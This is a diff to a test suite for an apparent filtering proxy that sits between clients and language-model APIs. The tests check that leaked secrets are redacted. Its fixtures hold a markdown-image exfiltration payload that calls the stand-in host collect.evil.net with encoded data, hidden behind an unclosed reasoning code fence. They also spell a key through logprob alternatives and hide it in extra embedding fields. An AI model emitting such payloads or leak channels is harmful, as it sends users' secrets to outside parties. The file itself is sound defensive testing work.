@@ -94,7 +94,54 @@ function logprobReply(content: string, tokens: string, bytes = tokens): CraftedR
   };
 }
 
+// A fence opened at the end of the reasoning, before the position of the answer's image.
+const FENCED = `${LONG}\n\`\`\`\n`;
+const EXFIL = `![chart](https://collect.evil.net/p.png?d=${'dXNlciBzZWNyZXQgaXMgaGVyZQ'})`;
+
+/** A completion whose text is clean while the first rank of its alternatives spells the key. */
+function completionReply(content: string, alternatives: string): CraftedReply {
+  const c = pieces(content);
+  const alt = pieces(alternatives);
+  const lp = (from: number, to: number) => ({
+    tokens: c.slice(from, to),
+    token_logprobs: c.slice(from, to).map(() => -0.1),
+    top_logprobs: c.slice(from, to).map((_, i) => ({ [alt[from + i] ?? '']: -2 })),
+    text_offset: c.slice(from, to).map((_, i) => (from + i) * 3),
+  });
+  const top = { id: 'cmpl-x', object: 'text_completion', created: 1, model: 'crafted' };
+  return {
+    json: {
+      ...top,
+      choices: [{ index: 0, text: content, logprobs: lp(0, c.length), finish_reason: 'stop' }],
+    },
+    chunks: [
+      ...c.map((piece, i) => ({ ...top, choices: [{ index: 0, text: piece, logprobs: lp(i, i + 1) }] })),
+      { ...top, choices: [{ index: 0, text: '', finish_reason: 'stop' }] },
+    ],
+  };
+}
+
 const REPLIES: Record<string, CraftedReply> = {
+  'fenced-reasoning': {
+    // The reasoning opens a code fence it never closes: the answer's image must not be read as inside it.
+    json: chatJson([
+      { message: { reasoning_content: FENCED, content: `${LONG}${LONG}Here is the chart: ${EXFIL} now.` } },
+    ]),
+    chunks: chatChunks([
+      { reasoning_content: FENCED, content: `${LONG}${LONG}Here is the chart: ${EXFIL} now.` },
+    ]),
+  },
+  'completion-logprobs': completionReply(LONG + ANSWER, `${LONG.slice(0, 200)}The key is ${KEY} ok`),
+  embedding: {
+    json: {
+      object: 'list',
+      data: [{ object: 'embedding', index: 0, embedding: [0.25, -0.5], note: KEY }],
+      model: 'crafted',
+      usage: { prompt_tokens: 2, total_tokens: 2 },
+      x_debug: KEY,
+    },
+    chunks: [],
+  },
   'reasoning-content': {
     json: chatJson([
       { message: { content: ANSWER, reasoning_content: `First recall the key ${KEY} then add.` } },
@@ -207,12 +254,16 @@ function readable(values: unknown[]): Map<string, string> {
     else if (typeof v === 'number' && path.endsWith('.bytes'))
       bytes.set(path, [...(bytes.get(path) ?? []), v]);
     else if (Array.isArray(v)) for (const x of v) walk(x, path);
-    else if (v && typeof v === 'object')
+    else if (v && typeof v === 'object') {
+      // legacy completions keep their alternatives as object keys
+      if (path.endsWith('.top_logprobs'))
+        texts.set(`${path}:keys`, (texts.get(`${path}:keys`) ?? '') + Object.keys(v).join(''));
       for (const [k, x] of Object.entries(v)) {
         if (k === 'choices' && Array.isArray(x))
           for (const c of x) walk(c, `${path}.choice${(c as { index?: number }).index ?? 0}`);
         else walk(x, `${path}.${k}`);
       }
+    }
   };
   for (const v of values) walk(v, '');
   for (const [p, b] of bytes) texts.set(`${p}:decoded`, Buffer.from(b).toString('utf8'));
@@ -258,16 +309,17 @@ after(async () => {
   await upstream?.close();
 });
 
-async function ask(model: string, stream: boolean): Promise<Answer> {
-  const res = await fetch(`${base}/chat/completions`, {
+async function ask(model: string, stream: boolean, route = 'chat'): Promise<Answer> {
+  const body =
+    route === 'chat'
+      ? { model, stream, logprobs: true, messages: [{ role: 'user', content: 'What is 2+2?' }] }
+      : route === 'completions'
+        ? { model, stream, logprobs: 1, prompt: 'What is 2+2?' }
+        : { model, input: 'two plus two' };
+  const res = await fetch(`${base}/${route === 'chat' ? 'chat/completions' : route}`, {
     method: 'POST',
     headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({
-      model,
-      stream,
-      logprobs: true,
-      messages: [{ role: 'user', content: 'What is 2+2?' }],
-    }),
+    body: JSON.stringify(body),
   });
   const raw = await res.text();
   assert.equal(res.status, 200, raw.slice(0, 300));
@@ -368,6 +420,19 @@ for (const stream of [false, true]) {
       assert.match(text(a, slot('reasoning_content', 1)), /REDACTED/);
     });
 
+    it('gives each text of a choice its own guard state (a fence opened in reasoning does not hide the answer)', async () => {
+      const a = await ask('fenced-reasoning', stream);
+      assert.ok(!text(a, slot('content')).includes('collect.evil.net'), text(a, slot('content')));
+      assert.match(text(a, slot('content')), /Here is the chart: .*REDACTED.* now\.$/);
+    });
+
+    it('drops completion logprobs whose alternatives spell a key', async () => {
+      const a = await ask('completion-logprobs', stream, 'completions');
+      assertNoKey(a);
+      assert.equal(text(a, '.choice0.text'), LONG + ANSWER);
+      assert.equal(text(a, '.choice0.logprobs.tokens'), '');
+    });
+
     it('blocks a legacy function_call to a denied tool', async () => {
       const a = await ask('function-call', stream);
       assert.ok(!a.raw.includes('drop_database'), 'the denied call reached the client');
@@ -383,3 +448,11 @@ for (const stream of [false, true]) {
     });
   });
 }
+
+describe('response surface (embeddings)', () => {
+  it('drops unknown fields of an embeddings answer, keeps the vectors', async () => {
+    const a = await ask('embedding', false, 'embeddings');
+    assertNoKey(a);
+    assert.deepEqual((a.events[0]!.data as { embedding: number[] }[])[0]!.embedding, [0.25, -0.5]);
+  });
+});
